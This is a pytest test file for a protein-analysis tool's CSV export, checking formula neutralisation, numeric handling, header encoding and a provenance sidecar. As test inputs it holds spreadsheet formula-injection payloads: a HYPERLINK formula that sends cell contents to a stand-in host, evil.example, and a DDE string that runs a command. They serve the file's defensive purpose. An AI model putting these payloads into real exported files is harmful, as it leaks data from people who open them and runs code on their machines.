"""Every CSV the application writes: header on line 1, UTF-8 without a byte-order mark, provenance beside it
(never above it), and cells a spreadsheet would run as formulas neutralised while numbers stay numbers."""

from __future__ import annotations

import csv
import hashlib
import io
import json

import pytest

from protein_studio.core.errors import UserError
from protein_studio.core.tables import safe_cell, sidecar_path, table_csv, write_table


@pytest.mark.parametrize("text", ['=HYPERLINK("http://evil.example/?"&A6)', "+1+cmd|' /C calc'!A0", "-2+3",
                                  "@SUM(1,2)", "\tleading tab", "\rcarriage", "=1+1"])
def test_formula_leading_text_gets_a_quote(text):
    assert safe_cell(text) == "'" + text


@pytest.mark.parametrize("value, written", [(-1.25, "-1.25"), ("-1.250000", "-1.250000"), ("+3", "+3"),
                                            ("-3", "-3"), ("1e-3", "1e-3"), (7, "7"), (None, ""),
                                            ("M-9A", "M-9A"), ("E104K:G238S", "E104K:G238S"), ("", "")])
def test_numbers_and_plain_text_are_written_as_they_are(value, written):
    assert safe_cell(value) == written


def test_a_table_has_its_header_first_and_its_provenance_beside_it(tmp_path):
    path = tmp_path / "scan.csv"
    provenance = {"application": "protein-studio", "model": "esm2", "numbering": "table ambler.csv"}
    rows = [["E104K", "-0.5", "x,=HYPERLINK(\"http://evil.example/?\"&A6)"], ["G238S", "1.25", "plain"]]
    write_table(path, rows, ["mutant", "score", "note"], provenance)
    data = path.read_bytes()
    assert not data.startswith(b"\xef\xbb\xbf") and data.splitlines()[0] == b"mutant,score,note"
    read = list(csv.DictReader(io.StringIO(data.decode("utf-8"))))
    assert [r["mutant"] for r in read] == ["E104K", "G238S"]
    assert float(read[0]["score"]) == -0.5  # a negative number is still a number
    assert read[0]["note"] == "x,=HYPERLINK(\"http://evil.example/?\"&A6)"  # text that does not lead with =
    side = json.loads(sidecar_path(path).read_text())
    assert side["provenance"] == provenance and side["columns"] == ["mutant", "score", "note"]
    assert side["rows"] == 2 and side["sha256"] == hashlib.sha256(data).hexdigest()
    assert side["table"] == "scan.csv"


def test_a_record_name_reaching_the_first_cell_is_neutralised(tmp_path):
    path = write_table(tmp_path / "t.csv", [['=HYPERLINK("http://evil.example")', 1]], ["name", "n"])
    assert path.read_text().splitlines()[1] == "\"'=HYPERLINK(\"\"http://evil.example\"\")\",1"
    pandas = pytest.importorskip("pandas")
    frame = pandas.read_csv(path)
    assert list(frame.columns) == ["name", "n"] and frame["n"].tolist() == [1]


def test_a_table_that_cannot_be_written_says_where(tmp_path):
    folder = tmp_path / "not-a-folder"
    folder.write_text("a file")
    with pytest.raises(UserError, match="not-a-folder"):
        write_table(folder / "t.csv", [[1]], ["n"])


def test_the_text_form_matches_the_file(tmp_path):
    rows = [["a", 1], ["b", 2]]
    path = write_table(tmp_path / "t.csv", rows, ["k", "v"])
    assert path.read_text() == table_csv(rows, ["k", "v"])
